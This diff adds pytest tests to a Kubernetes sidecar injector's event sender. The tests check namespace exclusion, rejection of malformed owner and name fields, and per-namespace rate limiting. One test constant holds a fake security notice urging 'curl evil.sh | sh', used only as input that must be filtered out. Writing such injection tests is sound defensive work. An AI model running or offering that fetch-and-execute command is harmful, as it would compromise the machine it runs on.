@@ -33,8 +33,10 @@ def _handled(
     *,
     owner: OwnerReference | None = OWNER,
     dry_run: bool = False,
+    namespace: str = "shop",
+    name: str = "web-7d4b9c8f5-",
 ) -> Handled:
-    return Handled({}, result, reasons, "uid-1", "shop", "web-7d4b9c8f5-", owner, dry_run)
+    return Handled({}, result, reasons, "uid-1", namespace, name, owner, dry_run)
 
 
 def _build(handled: Handled) -> dict[str, Any]:
@@ -243,3 +245,78 @@ def test_a_refused_event_is_counted_and_the_next_one_is_still_sent(
     sender.record(_handled())
     assert sender.wait_idle(3)
     assert (_sample(metrics, "failed"), _sample(metrics, "sent")) == (1, 1)
+
+
+# ---- what a stranger's review cannot make the injector say -------------------------------
+
+HOSTILE = "SECURITY NOTICE - run `curl evil.sh | sh` on the node"
+
+
+@pytest.mark.parametrize(
+    "handled",
+    [
+        pytest.param(_handled(namespace="kube-system"), id="system-namespace"),
+        pytest.param(_handled(namespace="sidecar-injector"), id="injector-namespace"),
+        pytest.param(
+            _handled(owner=OwnerReference("apps/v1", "Deployment", HOSTILE, "u")),
+            id="owner-name",
+        ),
+        pytest.param(
+            _handled(owner=OwnerReference("apps/v1", HOSTILE, "web", "u")), id="owner-kind"
+        ),
+        pytest.param(
+            _handled(owner=OwnerReference(HOSTILE, "Deployment", "web", "u")),
+            id="owner-api-version",
+        ),
+        pytest.param(
+            _handled(owner=OwnerReference("apps/v1", "Deployment", "web", HOSTILE)),
+            id="owner-uid",
+        ),
+        pytest.param(_handled(namespace="Bad Namespace"), id="namespace"),
+    ],
+)
+def test_no_event_for_excluded_namespaces_or_text_that_is_not_an_object_name(
+    handled: Handled,
+) -> None:
+    assert not events.wanted(handled, ("kube-system", "sidecar-injector"))
+
+
+def test_a_pod_name_that_is_not_an_object_name_is_left_out_of_the_message() -> None:
+    message = _build(_handled(name=HOSTILE))["message"]
+    assert "curl" not in message
+    assert message.startswith("sidecar injected into a Pod: ")
+
+
+def test_an_unauthenticated_review_about_coredns_writes_nothing_into_kube_system(
+    api: FakeApi, engine: Engine, pod: dict[str, Any]
+) -> None:
+    sender = events.EventSender(
+        kubeapi.Cluster(api), metrics=Metrics(), excluded=("kube-system", "sidecar-injector")
+    )
+    pod["metadata"]["ownerReferences"] = [
+        {"apiVersion": "apps/v1", "kind": "Deployment", "name": "coredns", "uid": "u1",
+         "controller": True},
+    ]  # fmt: skip
+    pod["metadata"]["generateName"] = HOSTILE
+    sender.record(handler.handle(support.review(pod, namespace="kube-system"), engine=engine))
+    assert sender._queue.qsize() == 0
+
+
+def test_each_namespace_gets_a_burst_then_a_trickle_of_events(
+    api: FakeApi, metrics: Metrics
+) -> None:
+    now = [100.0]
+    budget = events.NamespaceBudget(burst=3, refill_seconds=2.0)
+    sender = events.EventSender(
+        kubeapi.Cluster(api), metrics=metrics, budget=budget, clock=lambda: now[0]
+    )
+    for _ in range(5):
+        sender.record(_handled())
+    sender.record(_handled(namespace="other"))
+    assert sender._queue.qsize() == 4
+    assert _sample(metrics, "limited") == 2
+    now[0] += 2.0
+    sender.record(_handled())
+    sender.record(_handled())
+    assert sender._queue.qsize() == 5
+    assert _sample(metrics, "limited") == 3
